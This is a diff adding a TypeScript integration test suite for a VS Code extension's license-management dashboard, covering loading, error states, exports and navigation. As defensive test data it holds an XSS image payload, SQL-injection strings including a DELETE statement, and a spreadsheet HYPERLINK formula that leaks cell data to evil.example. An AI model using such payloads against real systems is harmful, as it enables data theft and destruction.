@@ -1,0 +1,153 @@
+import * as assert from 'node:assert/strict';
+import { readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import * as vscode from 'vscode';
+import type { LmaWorkbenchApi } from '../../src/extension';
+import type { VersionNode } from '../../src/editor/trees/installBaseTree';
+import type { DemoLmo } from '../../src/demo';
+import type { DashboardView, HostToPage } from '../../src/webview/protocol';
+import { connectDemo, eventually } from './support';
+
+const OPTIONS = { packageId: '', includeSandboxes: false, churnDays: 90 };
+
+describe('dashboard panel protocol', () => {
+  let lma: LmaWorkbenchApi;
+  let demo: DemoLmo;
+  let nextId = 100;
+  const ask = async (name: string, params: unknown) => (await lma.dashboard.handle({ type: 'request', id: ++nextId, name, params })) as Extract<HostToPage, { type: 'response' }>;
+  const load = async (options = OPTIONS) => {
+    const reply = await ask('load', options);
+    assert.equal(reply.ok, true, JSON.stringify(reply));
+    return (reply as { result: DashboardView }).result;
+  };
+
+  before(async () => {
+    ({ lma, demo } = await connectDemo());
+  });
+  afterEach(() => demo.faults.reset());
+  after(async () => {
+    await vscode.commands.executeCommand('lma.clearFilter');
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+    await vscode.commands.executeCommand('lma.disconnect');
+  });
+
+  it('answers load with the server-aggregated metrics, in three API calls, and no connection detail', async () => {
+    demo.resetCounters();
+    const view = await load();
+    assert.equal(view.state, 'ready');
+    if (view.state !== 'ready') return;
+    assert.equal(view.apiCalls, 3);
+    assert.equal(demo.apiCalls, 3);
+    const direct = await lma.connection.lmo!.dashboard({ includeSandboxes: false, churnDays: 90 });
+    // The page receives JSON: compare what crosses.
+    assert.deepEqual(JSON.parse(JSON.stringify(view.metrics)), JSON.parse(JSON.stringify(direct.metrics)));
+    const wire = JSON.stringify(view);
+    assert.ok(!wire.includes(demo.accessToken) && !wire.includes(demo.url) && !wire.includes('127.0.0.1'), 'no token or instance URL crosses into the webview');
+    assert.equal(view.renewingNext[0].subscriber, '<img src=x onerror=alert(1)>', 'customer text is passed as text');
+  });
+
+  it('scopes to one package and includes sandboxes when asked', async () => {
+    const all = await load();
+    assert.equal(all.state, 'ready');
+    if (all.state !== 'ready') return;
+    const pkg = all.packages[0];
+    const one = await load({ ...OPTIONS, packageId: pkg.id });
+    const withSandboxes = await load({ ...OPTIONS, includeSandboxes: true });
+    assert.ok(one.state === 'ready' && one.metrics.liveLicenses < all.metrics.liveLicenses);
+    assert.ok(one.state === 'ready' && one.metrics.versionAdoption.length === 1 && one.metrics.versionAdoption[0].packageName === pkg.name);
+    assert.ok(withSandboxes.state === 'ready' && withSandboxes.metrics.liveLicenses > all.metrics.liveLicenses);
+  });
+
+  it('rejects malformed requests with an error reply, and ignores what is not a request', async () => {
+    const bad = await ask('load', { packageId: 5 });
+    assert.equal(bad.ok, false);
+    assert.match(!bad.ok ? bad.error.message : '', /Invalid load request/);
+    const badTarget = await ask('showInTree', { kind: 'subscriber', orgId: "x' OR 1=1" });
+    assert.equal(badTarget.ok, false);
+    assert.equal(await lma.dashboard.handle({ type: 'request', id: 1, name: 'constructor', params: OPTIONS }), undefined);
+    assert.equal(await lma.dashboard.handle('nonsense'), undefined);
+  });
+
+  it('keeps the last numbers, marked stale, when a reload fails; errors without them', async () => {
+    await load();
+    demo.faults.settings.apiLimitReached = true;
+    const stale = await load();
+    assert.equal(stale.state, 'ready');
+    assert.match(stale.state === 'ready' ? stale.stale?.message ?? '' : '', /daily API request limit/);
+    const fresh = await ask('load', { ...OPTIONS, churnDays: 31 });
+    assert.equal(fresh.ok, false);
+    assert.match(!fresh.ok ? fresh.error.message : '', /daily API request limit/);
+  });
+
+  it('says not connected, and LMA missing, as states', async () => {
+    demo.setLmaInstalled(false);
+    try {
+      await vscode.commands.executeCommand('lma.connectDemo');
+      assert.equal((await load()).state, 'lmaMissing');
+    } finally {
+      demo.setLmaInstalled(true);
+    }
+    await vscode.commands.executeCommand('lma.disconnect');
+    assert.deepEqual(await load(), { state: 'notConnected' });
+    ({ lma, demo } = await connectDemo());
+  });
+
+  it('copies the summary as Markdown', async () => {
+    const reply = await ask('copySummary', OPTIONS);
+    assert.equal(reply.ok, true);
+    const text = await vscode.env.clipboard.readText();
+    assert.match(text, /^## Install base — Demo LMO \(all packages, sandboxes excluded\)/);
+    assert.match(text, /\| Active subscribers \| [\d,]+ \|/);
+  });
+
+  it('exports the metrics and streams every license in scope to CSV', async () => {
+    const dir = tmpdir();
+    const metricsFile = vscode.Uri.file(join(dir, `metrics-${Date.now()}.csv`));
+    const licensesFile = vscode.Uri.file(join(dir, `licenses-${Date.now()}.csv`));
+    try {
+      await lma.dashboard.exportMetricsTo(metricsFile, OPTIONS);
+      const metricsCsv = await readFile(metricsFile.fsPath, 'utf8');
+      assert.match(metricsCsv, /Subscribers,Active subscribers,\d+/);
+      const result = (await vscode.commands.executeCommand('lma.exportLicenses', licensesFile, { ...OPTIONS, includeSandboxes: true })) as { written: number };
+      assert.equal(result.written, demo.licenseCount);
+      const lines = (await readFile(licensesFile.fsPath, 'utf8')).trimEnd().split(/\r?\n/);
+      assert.match(lines[0], /^\uFEFFLicense,Status,State,Subscriber,/);
+      const csv = lines.join('\n');
+      assert.ok(csv.includes('"O\'Brien & ""Sons"" <b>Ltd</b>"'), 'quotes are doubled inside a quoted field');
+      assert.ok(csv.includes(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for a discount"")"`), 'a formula-like name is neutralised with a leading apostrophe');
+      assert.ok(!/(^|,)"?=/m.test(csv), 'no cell starts a spreadsheet formula');
+      assert.ok(csv.includes(`"'; DELETE FROM sfLma__License__c; -- \\ %_ "`) || csv.includes("'; DELETE FROM"), 'hostile text is kept as text');
+    } finally {
+      await rm(metricsFile.fsPath, { force: true });
+      await rm(licensesFile.fsPath, { force: true });
+    }
+  });
+
+  it('shows a chart segment\'s licenses in the sidebar: a version, a renewal window, a subscriber', async () => {
+    const all = await load();
+    const view = await load({ ...OPTIONS, packageId: all.state === 'ready' ? all.packages[0].id : '' });
+    assert.equal(view.state, 'ready');
+    if (view.state !== 'ready') return;
+    const adoption = view.metrics.versionAdoption[0];
+    const version = adoption.versions.find((v) => v.versionNumber === adoption.latestVersion)!;
+    assert.equal((await ask('showInTree', { kind: 'version', packageId: adoption.packageId, versionId: version.versionId })).ok, true);
+    const selected = await eventually(() => lma.installBaseView.selection[0] as VersionNode | undefined, 'the version to be selected');
+    assert.equal(selected.version.id, version.versionId);
+    assert.deepEqual(lma.filter.current.statuses, ['Active', 'Trial']);
+
+    const bucket = view.metrics.renewals[0];
+    await ask('showInTree', { kind: 'renewals', from: bucket.from, to: bucket.to });
+    assert.equal(lma.filter.current.expiringFrom, bucket.from);
+    assert.match(String(lma.installBaseView.description), new RegExp(`expiring ${bucket.from} – ${bucket.to}`));
+
+    await ask('showInTree', { kind: 'subscriber', orgId: view.renewingNext[0].orgId });
+    const org = await eventually(() => lma.subscribersView.selection[0] as { kind: string; org?: { orgKey: string } } | undefined, 'the org to be selected');
+    assert.equal(org.org?.orgKey, view.renewingNext[0].orgId.slice(0, 15));
+  });
+
+  it('opens the panel from the command palette', async () => {
+    await vscode.commands.executeCommand('lma.openDashboard');
+    await eventually(() => vscode.window.tabGroups.all.flatMap((g) => g.tabs).find((t) => t.label === 'Install-Base Dashboard'), 'the dashboard tab');
+  });
+});
